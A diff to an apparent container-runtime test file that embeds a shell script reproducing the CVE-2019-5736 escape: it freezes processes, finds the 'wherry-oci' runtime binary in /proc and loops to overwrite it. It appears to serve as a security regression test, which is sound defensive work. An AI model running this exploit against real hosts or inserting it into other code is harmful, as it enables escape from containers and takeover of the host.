@@ -16,17 +16,22 @@ ALL = [f"CAP_{name}" for name in (
     "NET_BROADCAST NET_ADMIN NET_RAW IPC_LOCK IPC_OWNER SYS_MODULE SYS_RAWIO SYS_CHROOT SYS_PTRACE SYS_PACCT SYS_ADMIN "
     "SYS_BOOT SYS_NICE SYS_TIME SYS_TTY_CONFIG MKNOD LEASE AUDIT_WRITE AUDIT_CONTROL SETFCAP").split()]
 
-# Holds the program of every process that enters, and writes to it when that has ended (CVE-2019-5736).
+# Holds the program of every process that enters, and writes to it when that has ended (CVE-2019-5736). As the first
+# process it stops all others before it looks, so that whoever has come is still what he was when he is looked at.
 OVERWRITE = r"""
 echo ready
 while :; do
-  for p in /proc/[0-9]*; do
+  kill -STOP -1
+  set -- /proc/[0-9]*
+  for p; do
+    [ "$p" != /proc/1 ] || continue
     case $(readlink $p/exe) in
     *wherry-oci*)
       (  # a shell whose exec fails ends
         exec 9< $p/exe
         case $(readlink /proc/self/fd/9) in *wherry-oci*) ;; *) exit;; esac  # it was another program by then
         echo caught
+        kill -CONT ${p#/proc/}
         i=0
         while [ $i -lt 100 ]; do
           i=$((i + 1))
@@ -37,6 +42,7 @@ while :; do
       );;
     esac
   done
+  kill -CONT -1
 done 2> /tmp/attempts
 """
 
